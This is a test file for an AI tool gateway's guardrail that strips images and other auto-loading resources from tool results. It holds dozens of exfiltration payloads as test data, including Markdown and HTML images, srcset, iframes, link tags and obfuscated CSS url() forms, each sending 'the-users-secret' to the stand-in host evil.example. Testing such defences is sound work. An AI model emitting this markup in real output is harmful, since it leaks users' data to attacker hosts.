// Images from outside hosts whose URL a browser fetches and a check for "http(s)://" or "//" alone did
// not see: a scheme without slashes (`http:evil.example/…`), backslashes a browser reads as slashes, a
// tab or line break inside the URL (a browser removes them), character references (decoded in an HTML
// attribute and in a Markdown destination), a quoted attribute value holding ">" before `src`, and
// `srcset`. End to end: a real gateway, the official SDK client, and test/fixtures/hostile-server.mjs,
// whose `echo` answers its text as given.
import assert from 'node:assert/strict';
import { resolve } from 'node:path';
import { describe, it } from 'node:test';
import { gatewayWithClients } from '../helpers/gateway-clients.js';
import { textOf } from '../helpers/sdk.js';

const FIXTURE = resolve('test/fixtures/hostile-server.mjs');
const UPSTREAM = { name: 'hs', transport: 'stdio' as const, command: process.execPath, args: [FIXTURE], sandbox: 'none' as const, sharing: 'shared' as const };
const LEAK = 'evil.example/p.png?d=the-users-secret';

describe('images from outside hosts: the URL as a browser fetches it', () => {
  const { clients } = gatewayWithClients({
    upstreams: [UPSTREAM],
    endpoints: [{ path: '/strip', upstreams: ['hs'], guardrails: { hiddenText: { results: 'strip', imageHosts: ['img.example.com'] } } }],
  });
  const echo = async (text: string) => textOf(await clients['/strip']!.callTool({ name: 'echo', arguments: { text } }));

  it('fetched from another host however the URL is written: found and stripped', async () => {
    const images = [
      `![x](http:${LEAK})`,
      `![x](https:\\\\${LEAK})`,
      `![x](<ht\ttps://${LEAK}>)`,
      `![x](https&#58;//${LEAK})`,
      `<img src="http:${LEAK}">`,
      `<img src="\\\\${LEAK}">`,
      `<img src="/\\${LEAK}">`,
      `<img src="ht\ntps://${LEAK}">`,
      `<img src="&#104;ttps://${LEAK}">`,
      `<img alt="a>b" src="https://${LEAK}">`,
      `<img srcset="https://${LEAK} 2x">`,
      `<img src="p.png" srcset="p.png 1x, //${LEAK} 2x">`,
    ];
    for (const image of images) assert.equal(await echo(`Done. ${image} Bye.`), 'Done. [removed] Bye.', image);
  });

  it('other elements a page fetches as it loads, no click needed: found and stripped (found by a review)', async () => {
    // Before, only <img> was read: a <picture>'s <source srcset> sent the secret as surely.
    const fetched = [
      `<picture><source srcset="https://${LEAK} 1x"></picture>`,
      `<video poster="https://${LEAK}"></video>`,
      `<video src="//${LEAK}"></video>`,
      `<audio src="https://${LEAK}"></audio>`,
      `<input type="image" src="https://${LEAK}">`,
      `<svg><image href="https://${LEAK}"/></svg>`,
      `<iframe src="https://${LEAK}"></iframe>`,
      `<object data="https://${LEAK}"></object>`,
    ];
    for (const html of fetched) assert.match(await echo(`Done. ${html} Bye.`), /\[removed\]/, html);
    // Fetched by nothing, or only on a click: left.
    for (const left of [`<a href="https://${LEAK}">link</a>`, `<input type="text" src="https://${LEAK}">`, `<video src="img.example.com.mp4"></video>`, `<object data="https://img.example.com/a.svg"></object>`]) {
      assert.equal(await echo(`Done. ${left} Bye.`), `Done. ${left} Bye.`, left);
    }
  });

  it('a <link> a page loads (style sheet, icon, preload), a background attribute, an SVG <feImage>: found and stripped (found by a review)', async () => {
    // Before, none was read: `<link rel="stylesheet" href="https://evil.example/?d=…">` sent the secret as an <img> does.
    const fetched = [
      `<link rel="stylesheet" href="https://${LEAK}">`,
      `<link href='//${LEAK}' rel='shortcut icon'>`,
      `<link rel=preload as=image href=https://${LEAK}>`,
      `<link rel="dns-prefetch" href="https://${LEAK}">`,
      `<table background="https://${LEAK}"><tr><td>x</td></tr></table>`,
      `<table><tr><td background="https://${LEAK}">x</td></tr></table>`,
      `<body background="https://${LEAK}">x</body>`,
      `<svg><filter id="f"><feImage href="https://${LEAK}"/></filter></svg>`,
    ];
    for (const html of fetched) assert.match(await echo(`Done. ${html} Bye.`), /\[removed\]/, html);
    // Fetched by no one as the page loads: a canonical or alternate link, a rel only an unquoted neighbour names, a host allowed.
    for (const left of [`<link rel="canonical" href="https://${LEAK}">`, `<link rel=alternate title=icon href="https://${LEAK}">`, `<link rel="stylesheet" href="https://img.example.com/a.css">`, `<td background="cells/a.png">x</td>`]) {
      assert.equal(await echo(`Done. ${left} Bye.`), `Done. ${left} Bye.`, left);
    }
  });

  it('a CSS url() a page fetches as it loads, in a style attribute or a <style>, however written: found and stripped', async () => {
    // Before, no style was read: `<div style="background:url(https://evil.example/?d=…)">` sent the secret as an <img> does.
    const styled = [
      `<div style="background:url(https://${LEAK})">x</div>`,
      `<div style='background-image: url("//${LEAK}")'>x</div>`,
      `<ul style="list-style-image:url(&quot;https://${LEAK}&quot;)"><li>x</li></ul>`,
      `<div style="border-image: url(https://${LEAK}) 30 round">x</div>`,
      `<p style="content:url(https://${LEAK})">x</p>`,
      `<p style="cursor:url(https://${LEAK}), auto">x</p>`,
      `<div style="background-image:image-set('https://${LEAK}' 1x)">x</div>`,
      `<div style="background:u&#114;l(https://${LEAK})">x</div>`,
      `<div style="background:/**/\\75 rl(https\\:\\/\\/${LEAK})">x</div>`,
      `<div style="background:url(http&colon;${LEAK})">x</div>`,
      `<div title=" style=x" style="background:url(https://${LEAK})">x</div>`,
    ];
    for (const html of styled) {
      const out = await echo(`Done. ${html} Bye.`);
      assert.match(out, /^Done\. \[removed\]/, html);
      assert.doesNotMatch(out, /evil\.example/, html);
    }
    // A <style> a Markdown line holds unclosed (a bare tag, not hidden text): all after it is its CSS to a
    // browser, which fetches its @import; strip takes it out to the end, as a browser reads it.
    for (const rule of [`@import "https://${LEAK}";`, `@import url(//${LEAK});`, `p { background: url(https://${LEAK}) }`]) {
      assert.equal(await echo(`Done. Add <style>${rule} Bye.`), 'Done. Add [removed]', rule);
    }
    // Fetched from nowhere else: an allowed host, a data: or relative URL, a url() outside any style, a sample in code.
    const left = [
      '<div style="background:url(https://img.example.com/a.png)">x</div>',
      '<div style="background:url(data:image/png;base64,AAAA)">x</div>',
      '<div style="background:url(img/a.png)">x</div>',
      `<div title="url(https://${LEAK})" data-style="background:url(https://${LEAK})">x</div>`,
      `Write \`<div style="background:url(https://${LEAK})">\` for it.`,
      `CSS: background: url(https://${LEAK}).`,
    ];
    for (const s of left) assert.equal(await echo(`Done. ${s} Bye.`), `Done. ${s} Bye.`, s);
  });

  it('an allowed host, a relative or data: URL, a data-src: left as they are', async () => {
    for (const image of ['![x](https://img.example.com/a.png)', '<img src="img/a.png" srcset="img/a.png 1x, img/b.png 2x">', '<img src="data:image/png;base64,AAAA">', '<img data-src="https://evil.example/x">', '![x](http:img.example.com/a.png)']) {
      assert.equal(await echo(`Done. ${image} Bye.`), `Done. ${image} Bye.`, image);
    }
  });
});
